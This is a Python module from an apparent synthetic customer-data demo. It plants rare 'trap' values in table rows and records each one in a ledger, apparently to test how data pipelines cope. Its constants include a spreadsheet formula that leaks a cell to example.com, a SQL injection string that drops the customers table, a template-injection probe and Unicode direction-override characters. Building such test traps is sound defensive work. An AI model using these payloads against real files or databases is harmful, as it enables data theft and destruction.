"""Plants traps in the records of one table: each in rows of its own, written down in the ledger as it is planted."""

import numpy as np

from customer360.demo.chunk import Chunk
from customer360.demo.ledger import Dealer
from customer360.demo.text import Mask, Numbers, Text
from customer360.demo.views import View

RARE = 1 / 5000
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Premio")'
SQL_NAME = "Robert'); DROP TABLE customers;--"
TEMPLATE = "{{ config }}"
EMOJI = "Lucía 🌻💃"
RIGHT_TO_LEFT = "\u202eنور الهدى"
ZERO_WIDTH = "\u200b"
FAR_FUTURE = np.datetime64("2099-12-31T23:59:59", "us")


class Poison:
    """The traps of one table; `spared` records get none because they already play a part."""

    def __init__(
        self, chunk: Chunk, view: View, source: str, table: str, ids: Text, spared: Mask | None = None
    ) -> None:
        self.chunk, self.view, self.source, self.table, self.ids = chunk, view, source, table, ids
        free = np.ones(len(ids), dtype=bool) if spared is None else ~spared
        self.dealer = Dealer(chunk.world.rng(f"traps {source} {table}"), np.flatnonzero(free))

    def rows(self, trap: str, per_person: float = RARE) -> Numbers:
        """Rows for a trap, written down in the ledger."""
        rows = self.dealer.rows(self.chunk.world.quota(per_person))
        self.chunk.ledger.plant(trap, self.source, self.table, self.ids, self.view.owner, rows)
        return rows

    def write(self, trap: str, column: str, word: str, per_person: float = RARE) -> None:
        """A word in the place of what the view's column held."""
        self.view.overwrite(column, self.rows(trap, per_person), word)

    def date(self, trap: str, column: Text, word: str, per_person: float = RARE) -> Text:
        """The column of dates as text, with a word in the place of some."""
        rows = self.rows(trap, per_person)
        return self.view.replaced("birth", column, rows, word)
